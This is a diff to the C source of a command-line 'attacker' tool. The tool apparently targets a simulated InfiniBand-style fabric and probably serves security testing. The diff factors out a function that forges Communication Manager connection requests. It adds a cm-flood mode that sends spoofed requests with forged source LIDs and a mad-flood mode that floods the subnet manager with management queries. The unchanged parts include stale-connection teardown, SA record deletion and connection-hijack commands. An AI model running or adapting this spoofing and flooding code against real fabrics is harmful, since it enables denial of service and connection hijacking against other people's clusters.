@@ -45,6 +45,16 @@
  *	socket.  A CM that believes it rejects each REQ whose QPN it knows as
  *	connected as stale and ends that connection.  Prints "sent: N",
  *	"rejected as stale: N" and "other answers: N".
+ *   attacker cm-flood TARGET SLID DLID SERVICEID SECONDS
+ *	For SECONDS, REQs for SERVICEID to TARGET (a listener at LID DLID)
+ *	as fast as the socket takes them, from this socket: every other one
+ *	claims SLID (a live port elsewhere), the rest a random LID, each with
+ *	a random comm ID and QPN.  Prints "sent: N" and "answers: N".
+ *   attacker mad-flood SM SECONDS
+ *	Becomes a port, then for SECONDS sends SM all the requests it can,
+ *	as fast as the socket takes them, from its own LID: SA Gets of its
+ *	own endpoint record and SubnGet(SMInfo), half and half, reading
+ *	nothing.  Prints "port: LID L" and "sent: N" (what left the socket).
  *   attacker sa-claim-listener SM IP TCPPORT SECONDS
  *	The connection hijack: becomes a port (of another host: run it in
  *	another network namespace, SOFTIB_ADDR its address), reads the
@@ -568,41 +578,50 @@ static int sa_delete(const struct sib_endpoint *sm, uint16_t lid, uint64_t sid)
 	return 0;
 }
 
+/* A REQ for service sid as if from CA guid's QP qpn at LID slid, to the
+ * listener at LID dlid, with a fresh comm ID and TID: the MAD into mad. */
+static void forged_req(uint8_t *mad, uint64_t sid, uint64_t guid, uint32_t qpn, uint16_t slid,
+		       uint16_t dlid)
+{
+	struct ib_mad_hdr h;
+	struct ib_cm_req req;
+
+	memset(&h, 0, sizeof(h));
+	h.BaseVersion = IB_MAD_BASE_VERSION;
+	h.MgmtClass = IB_MGMT_CLASS_CM;
+	h.ClassVersion = IB_CM_CLASS_VERSION;
+	ib_mad_set_method(&h, IB_MAD_METHOD_SEND);
+	h.AttributeID = IB_CM_ATTR_REQ;
+	h.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
+	memset(mad, 0, IB_MAD_BYTES);
+	ib_mad_hdr_encode(&h, mad);
+	memset(&req, 0, sizeof(req));
+	req.LocalCommID = (uint32_t)rand() | 1;
+	req.ServiceID = sid;
+	req.LocalCAGUID = guid;
+	req.LocalQPN = qpn;
+	req.TransportServiceType = IB_CM_TRANSPORT_RC;
+	req.StartingPSN = 1;
+	req.RemoteCMResponseTimeout = req.LocalCMResponseTimeout = 20;
+	req.P_Key = 0xffff;
+	req.PathPacketPayloadMTU = IB_MTU_4096;
+	req.Primary.LocalPortLID = slid;
+	req.Primary.RemotePortLID = dlid;
+	req.Primary.LocalACKTimeout = 14;
+	ib_cm_req_encode(&req, mad + IB_CM_DATA_OFFSET);
+}
+
 static int cm_stale(const struct sib_endpoint *target, char **v)
 {
 	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
 	uint32_t first = (uint32_t)strtoul(v[4], NULL, 0), last = (uint32_t)strtoul(v[5], NULL, 0);
 	uint8_t mad[IB_MAD_BYTES];
 	struct sib_mad_addr a;
-	struct ib_mad_hdr h;
-	struct ib_cm_req req;
 	struct rx r = { 0 };
 	int sent = 0;
 
 	for (uint32_t qpn = first; qpn <= last && qpn <= 0xffffff; qpn++) {
-		memset(&h, 0, sizeof(h));
-		h.BaseVersion = IB_MAD_BASE_VERSION;
-		h.MgmtClass = IB_MGMT_CLASS_CM;
-		h.ClassVersion = IB_CM_CLASS_VERSION;
-		ib_mad_set_method(&h, IB_MAD_METHOD_SEND);
-		h.AttributeID = IB_CM_ATTR_REQ;
-		h.TransactionID = ((uint64_t)rand() << 32) | (uint64_t)rand();
-		memset(mad, 0, sizeof(mad));
-		ib_mad_hdr_encode(&h, mad);
-		memset(&req, 0, sizeof(req));
-		req.LocalCommID = (uint32_t)rand() | 1;
-		req.ServiceID = strtoull(v[3], NULL, 0);
-		req.LocalCAGUID = strtoull(v[2], NULL, 0);
-		req.LocalQPN = qpn;
-		req.TransportServiceType = IB_CM_TRANSPORT_RC;
-		req.StartingPSN = 1;
-		req.RemoteCMResponseTimeout = req.LocalCMResponseTimeout = 20;
-		req.P_Key = 0xffff;
-		req.PathPacketPayloadMTU = IB_MTU_4096;
-		req.Primary.LocalPortLID = slid;
-		req.Primary.RemotePortLID = dlid;
-		req.Primary.LocalACKTimeout = 14;
-		ib_cm_req_encode(&req, mad + IB_CM_DATA_OFFSET);
+		forged_req(mad, strtoull(v[3], NULL, 0), strtoull(v[2], NULL, 0), qpn, slid, dlid);
 		sib_mad_addr_init(&a, SIB_QP1, dlid, slid);
 		sent += sib_mgmt_send(link_, &a, mad, target) == 0;
 		listen_for(&r, 5);
@@ -670,6 +689,88 @@ static int sa_claim_listener(const struct sib_endpoint *sm, const char *ip, uint
 	return 0;
 }
 
+static int cm_flood(const struct sib_endpoint *target, char **v)
+{
+	uint16_t slid = (uint16_t)strtoul(v[0], NULL, 0), dlid = (uint16_t)strtoul(v[1], NULL, 0);
+	uint64_t end = now_ns() + strtoull(v[3], NULL, 0) * 1000000000ull, sent = 0;
+	uint64_t sid = strtoull(v[2], NULL, 0);
+	uint8_t mad[IB_MAD_BYTES], pkt[512];
+	struct sib_mad_addr a;
+	struct rx r = { 0 };
+	size_t len;
+
+	while (now_ns() < end) {
+		for (int i = 0; i < 64; i++) {
+			uint16_t from = (i & 1) ? slid : (uint16_t)(2 + rand() % 0xbffd);
+
+			forged_req(mad, sid, 0x02000000dead0000ull, (uint32_t)rand() & 0xffffff, from,
+				   dlid);
+			sib_mad_addr_init(&a, SIB_QP1, dlid, from);
+			len = sib_mgmt_build(&a, mad, pkt, sizeof(pkt));
+			sent += len && sib_link_send(link_, pkt, len, target) == 0;
+		}
+		sib_link_flush(link_);
+		while (sib_link_poll(link_, 64, rx_cb, &r) > 0)
+			;
+	}
+	listen_for(&r, 500);
+	printf("sent: %llu\nanswers: %d\n", (unsigned long long)sent, r.cm_stale + r.cm_other);
+	return 0;
+}
+
+static int mad_flood(const struct sib_endpoint *sm, int seconds)
+{
+	uint8_t data[SIB_ENDPOINT_RECORD_BYTES], mad[IB_MAD_BYTES];
+	uint8_t pkt[2][512];
+	size_t len[2];
+	struct sib_endpoint_record me_rec;
+	struct sib_mad_addr a;
+	struct ib_sa_mad m;
+	struct ib_smp smp;
+	struct rx r = { 0 };
+	uint16_t me = become_port(sm, &r);
+	uint64_t end, sent = 0;
+
+	if (!me) {
+		printf("not configured\n");
+		return 0;
+	}
+	printf("port: LID %u\n", me);
+	fflush(stdout);
+	memset(&me_rec, 0, sizeof(me_rec));
+	me_rec.LID = me;
+	sib_endpoint_record_encode(&me_rec, data);
+	memset(&m, 0, sizeof(m));
+	m.hdr.BaseVersion = IB_MAD_BASE_VERSION;
+	m.hdr.MgmtClass = IB_MGMT_CLASS_SUBN_ADM;
+	m.hdr.ClassVersion = IB_SA_CLASS_VERSION;
+	ib_mad_set_method(&m.hdr, IB_MAD_METHOD_GET);
+	m.hdr.TransactionID = 0x5a5a0001;
+	m.hdr.AttributeID = SIB_SA_ATTR_ENDPOINT_RECORD;
+	m.ComponentMask = SIB_EPR_COMP_LID;
+	memcpy(m.SubnAdmData, data, sizeof(data));
+	ib_sa_mad_encode(&m, mad);
+	sib_mad_addr_init(&a, SIB_QP1, SIB_SM_LID, me);
+	len[0] = sib_mgmt_build(&a, mad, pkt[0], sizeof(pkt[0]));
+	smp_hdr(&smp, IB_MAD_METHOD_GET, IB_SMP_ATTR_SM_INFO, 0);
+	ib_smp_encode(&smp, mad);
+	sib_mad_addr_init(&a, SIB_QP0, SIB_SM_LID, me);
+	len[1] = sib_mgmt_build(&a, mad, pkt[1], sizeof(pkt[1]));
+	if (!len[0] || !len[1])
+		return 1;
+	/* The same two packets again and again: the SM parses each. */
+	end = now_ns() + (uint64_t)seconds * 1000000000ull;
+	while (now_ns() < end) {
+		for (int i = 0; i < 64; i++)
+			sent += sib_link_send(link_, pkt[i & 1], len[i & 1], sm) == 0;
+		sib_link_flush(link_);
+		while (sib_link_poll(link_, 64, rx_cb, &r) > 0) /* answers: nobody reads them */
+			;
+	}
+	printf("sent: %llu\n", (unsigned long long)sent);
+	return 0;
+}
+
 static int usage(void)
 {
 	fprintf(stderr, "usage: attacker set-lid TARGET LID [COUNT] [--m-key K]\n"
@@ -680,7 +781,9 @@ static int usage(void)
 			"       attacker sa-delete SM LID SERVICEID\n"
 			"       attacker cm-stale TARGET SLID DLID CAGUID SERVICEID QPN_FIRST "
 			"QPN_LAST\n"
-			"       attacker sa-claim-listener SM IP TCPPORT SECONDS\n");
+			"       attacker sa-claim-listener SM IP TCPPORT SECONDS\n"
+			"       attacker mad-flood SM SECONDS\n"
+			"       attacker cm-flood TARGET SLID DLID SERVICEID SECONDS\n");
 	return 2;
 }
 
@@ -716,6 +819,10 @@ int main(int argc, char **argv)
 		rc = sa_lookup(&target, (uint16_t)strtoul(argv[3], NULL, 0));
 	} else if (!strcmp(argv[1], "sa-claim-listener") && argc == 6) {
 		rc = sa_claim_listener(&target, argv[3], (uint16_t)atoi(argv[4]), atoi(argv[5]));
+	} else if (!strcmp(argv[1], "cm-flood") && argc == 7) {
+		rc = cm_flood(&target, argv + 3);
+	} else if (!strcmp(argv[1], "mad-flood") && argc == 4) {
+		rc = mad_flood(&target, atoi(argv[3]));
 	} else if (!strcmp(argv[1], "cm-stale") && argc == 9) {
 		rc = cm_stale(&target, argv + 3);
 	} else if (!strcmp(argv[1], "sa-delete") && argc == 5) {
